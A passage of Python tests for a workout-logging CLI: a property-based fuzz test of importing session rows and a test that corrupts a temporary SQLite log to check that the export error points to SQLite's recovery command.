        _one_line_or_ok(run("plan", "--format", "json"))
        ok("next")

    @FUZZ
    @given(
        field=st.sampled_from(
            ["reps", "load", "rir", "pain", "seconds", "set_no", "contacts", "distance_m"]
        ),
        value=st.one_of(
            st.integers(-(2**70), 2**70),
            st.floats(allow_nan=True, allow_infinity=True),
            st.booleans(),
            st.text(max_size=6),
            st.none(),
        ),
        date=date_text,
        csv_format=st.booleans(),
    )
    @pytest.mark.slow
    def test_import_rows(
        self,
        planned: Path,
        tmp_path_factory: pytest.TempPathFactory,
        field: str,
        value: object,
        date: str,
        csv_format: bool,
    ) -> None:
        session = _session(date=date, **{f"set_{field}": value})
        if csv_format:
            cells = ROW.rstrip("\n").split(",")
            cells[1] = date.replace(",", "")
            index = HEADER.rstrip("\n").split(",").index(field)
            cells[index] = "" if value is None else str(value).replace(",", "").replace("\n", "")
            text = HEADER + ",".join(cells) + "\n"
        else:
            text = _export([session])
        file = tmp_path_factory.mktemp("imp") / "in.txt"
        file.write_text(text, encoding="utf-8", errors="surrogatepass")
        _one_line_or_ok(run("log", "import", str(file)))
        ok("log", "list")
        ok("next")
        ok("history")


def test_a_log_too_damaged_to_export_says_what_is_left(db: Path) -> None:
    """The QA run: a write to a damaged log says "`log export --format csv` may still save
    what can be read"; when the damage is where the export reads too, the export said only
    "it was left as it is", with no next step. It names SQLite's own recovery."""
    with SessionLog(db) as log:
        log.save_profile(Profile())
        log.save_plan(make_plan())
        for day in range(1, 29):
            sets = [LoggedSet("back-squat", n, reps=5, load=80.0 + day, unit=LoadUnit.KG, rir=2)
                    for n in range(1, 6)]  # fmt: skip
            log.add_session(dt.date(2025, 12, day), sets, note="x" * 200)
    with db.open("r+b") as handle:  # two pages of the sessions and sets, overwritten
        handle.seek(4096 * 3)
        handle.write(b"\xff" * 8192)
    result = CliRunner().invoke(app, ["log", "export", "--format", "csv"])
    assert result.exit_code == 2, result.output
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"Error: {db}: the log database is damaged")
    assert line.endswith(f"(`sqlite3 {db} .recover`) may still read what is left")
